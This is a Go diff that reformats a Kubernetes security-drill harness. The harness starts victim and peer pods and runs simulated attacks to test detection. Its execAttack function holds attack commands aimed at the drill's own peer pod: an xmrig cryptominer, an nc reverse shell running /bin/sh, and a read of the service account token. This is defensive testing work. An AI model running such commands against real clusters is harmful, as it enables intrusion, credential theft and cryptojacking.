@@ -71,7 +71,9 @@ func (s *clusterEnvironment) VictimLineCount() uint64 { return s.victimLines.Loa
 func (s *clusterEnvironment) SiblingLineCount() uint64 { return s.siblingLines.Load() }
 
 // newClusterEnvironment creates the pods, waits until both send to the peer, and starts the attack in one of them.
-func newClusterEnvironment(ctx context.Context, o drillOptions, kind string, register registerTargetsFunc) (_ drillEnvironment, err error) {
+func newClusterEnvironment(ctx context.Context, o drillOptions, kind string,
+	register registerTargetsFunc,
+) (_ drillEnvironment, err error) {
 	cfg, err := clusterConfig(o.kubeconfig)
 	if err != nil {
 		return nil, err
@@ -81,7 +83,10 @@ func newClusterEnvironment(ctx context.Context, o drillOptions, kind string, reg
 		return nil, err
 	}
 	klog.SetLogger(logr.Discard()) // client-go logs errors of streams that the drill itself ends
-	s := &clusterEnvironment{client: client, config: cfg, suffix: randomHex(3), image: o.image, mountToken: kind == "credentials", attackErrors: make(chan error, 1)}
+	s := &clusterEnvironment{
+		client: client, config: cfg, suffix: randomHex(3), image: o.image,
+		mountToken: kind == "credentials", attackErrors: make(chan error, 1),
+	}
 	streams, stop := context.WithCancel(context.WithoutCancel(ctx))
 	s.stopStreams = stop
 	defer func() {
@@ -99,7 +104,10 @@ func newClusterEnvironment(ctx context.Context, o drillOptions, kind string, reg
 		{"start the drill's pods", s.startDeployment},
 		{"wait for the pods' traffic", s.waitForTraffic},
 		{"register the drill's pod", func(ctx context.Context) error {
-			return register(ctx, gateway.DrillTargets{Pods: []string{s.victim.Name}, Deployments: []string{s.resourceName("victim")}})
+			return register(ctx, gateway.DrillTargets{
+				Pods:        []string{s.victim.Name},
+				Deployments: []string{s.resourceName("victim")},
+			})
 		}},
 	} {
 		if err := step.do(ctx); err != nil {
@@ -113,7 +121,10 @@ func newClusterEnvironment(ctx context.Context, o drillOptions, kind string, reg
 // ensureNamespace creates the namespace of drills, or uses the existing one. It waits at most a minute for one that
 // is being deleted.
 func (s *clusterEnvironment) ensureNamespace(ctx context.Context) error {
-	space := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: config.DrillNamespace, Labels: map[string]string{kube.ManagedByLabel: kube.ManagedBy}}}
+	space := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{
+		Name:   config.DrillNamespace,
+		Labels: map[string]string{kube.ManagedByLabel: kube.ManagedBy},
+	}}
 	return retryUntil(ctx, time.Minute, func() error {
 		_, err := s.client.CoreV1().Namespaces().Create(ctx, space, metav1.CreateOptions{})
 		if err == nil {
@@ -138,7 +149,8 @@ func (s *clusterEnvironment) ensureNamespace(ctx context.Context) error {
 
 // followPeerLog counts the lines in the log of the peer. Each names the pod that sent it.
 func (s *clusterEnvironment) followPeerLog(ctx context.Context) error {
-	request := s.client.CoreV1().Pods(config.DrillNamespace).GetLogs(s.resourceName("peer"), &corev1.PodLogOptions{Follow: true})
+	request := s.client.CoreV1().Pods(config.DrillNamespace).GetLogs(s.resourceName("peer"),
+		&corev1.PodLogOptions{Follow: true})
 	var lines io.ReadCloser
 	err := retryUntil(ctx, 10*time.Second, func() (err error) { lines, err = request.Stream(ctx); return err })
 	if err != nil {
@@ -178,7 +190,8 @@ func (s *clusterEnvironment) execAttack(ctx context.Context, kind string) error 
 	streams := remotecommand.StreamOptions{Stdout: io.Discard, Stderr: io.Discard}
 	switch kind {
 	case "cryptominer":
-		exec.Command = []string{"sh", "-c", send("share", minerPoolPort), "xmrig", "--url", "stratum+tcp://" + s.peer + ":" + minerPoolPort, "--donate-level", "1"}
+		exec.Command = []string{"sh", "-c", send("share", minerPoolPort), "xmrig", "--url", "stratum+tcp://" + s.peer + ":" +
+			minerPoolPort, "--donate-level", "1"}
 	case "shell":
 		exec.Command, exec.TTY, exec.Stdin, exec.Stderr = []string{"sh"}, true, true, false
 		typed, typist := io.Pipe()
@@ -186,7 +199,8 @@ func (s *clusterEnvironment) execAttack(ctx context.Context, kind string) error 
 		go func() { _, _ = io.WriteString(typist, send("typed", heartbeatPort)+"\n") }()
 		streams.Stdin, streams.Stderr, streams.Tty = typed, nil, true
 	case "credentials":
-		exec.Command = []string{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; " + send("stolen", heartbeatPort)}
+		exec.Command = []string{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; " +
+			send("stolen", heartbeatPort)}
 	case "reverse-shell":
 		exec.Command = []string{"nc", s.peer, reverseShellPort, "-e", "/bin/sh"}
 	}
@@ -245,12 +259,15 @@ func (s *clusterEnvironment) Close() {
 	o := metav1.DeleteOptions{GracePeriodSeconds: &now, PropagationPolicy: &background}
 	failed := errors.Join(
 		ignoreNotFound(s.client.AppsV1().Deployments(config.DrillNamespace).Delete(ctx, s.resourceName("victim"), o)),
-		ignoreNotFound(s.client.CoreV1().Pods(config.DrillNamespace).DeleteCollection(ctx, o, metav1.ListOptions{LabelSelector: drillLabel + "=" + s.suffix})))
+		ignoreNotFound(s.client.CoreV1().Pods(config.DrillNamespace).DeleteCollection(ctx, o,
+			metav1.ListOptions{LabelSelector: drillLabel + "=" + s.suffix})))
 	if s.createdNamespace {
 		// Another drill may run in it.
-		others, err := s.client.CoreV1().Pods(config.DrillNamespace).List(ctx, metav1.ListOptions{LabelSelector: drillLabel + "!=" + s.suffix})
+		others, err := s.client.CoreV1().Pods(config.DrillNamespace).List(ctx,
+			metav1.ListOptions{LabelSelector: drillLabel + "!=" + s.suffix})
 		if failed = errors.Join(failed, err); err == nil && len(others.Items) == 0 {
-			failed = errors.Join(failed, ignoreNotFound(s.client.CoreV1().Namespaces().Delete(ctx, config.DrillNamespace, metav1.DeleteOptions{})))
+			failed = errors.Join(failed, ignoreNotFound(s.client.CoreV1().Namespaces().Delete(ctx, config.DrillNamespace,
+				metav1.DeleteOptions{})))
 		}
 	}
 	if failed != nil {
